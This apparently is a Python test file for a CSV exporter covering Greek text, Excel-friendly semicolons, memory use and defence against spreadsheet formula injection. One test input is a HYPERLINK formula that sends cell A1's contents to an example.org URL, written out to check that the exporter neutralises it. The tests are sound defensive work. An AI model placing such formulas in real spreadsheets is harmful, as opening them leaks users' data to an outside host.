"""Tests of CSV: for programs and for Excel in Greek, without formulas, at constant memory."""

import csv
import io
import tracemalloc
from datetime import date

import pytest

from reports.publishing.separated import harmless, lines

ROWS = [("kep", "Κέντρα, «ΚΕΠ»", date(2020, 7, 27), 128344, None), ("a;b", 'say "so"', None, 0, -5)]


def test_programs_get_commas_and_no_mark() -> None:
    text = "".join(lines(ROWS))
    assert text.startswith('kep,"Κέντρα, «ΚΕΠ»",2020-07-27,128344,\r\n')
    assert [*csv.reader(io.StringIO(text))][1] == ["a;b", 'say "so"', "", "0", "-5"]


def test_excel_gets_semicolons_and_the_mark() -> None:
    data = "".join(lines(ROWS, for_excel=True)).encode()
    assert data.startswith(b"\xef\xbb\xbfkep;")
    read = [*csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")]
    assert read[1] == ["a;b", 'say "so"', "", "0", "-5"]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0@", "＝", "＠"])
def test_no_text_is_a_formula(begin: str) -> None:
    text = f'{begin}HYPERLINK("http://example.org/?"&A1)'
    for for_excel in (False, True):
        (read,) = csv.reader(
            io.StringIO("".join(lines([(text,)], for_excel=for_excel)).lstrip("\ufeff"), newline=""),
            delimiter=";" if for_excel else ",",
        )
        assert read == [f"'{text}"]


@pytest.mark.parametrize("cell", [-5, 0, None, date(2020, 7, 27), "ΚΕΠ", "myKEPlive", "a=b", ""])
def test_what_is_no_formula_stays(cell: object) -> None:
    assert harmless(cell) == cell


def test_long_tables_take_no_more_memory() -> None:
    tracemalloc.start()
    for _line in lines(("agency", number, "x" * 100) for number in range(20_000)):
        pass
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 200_000
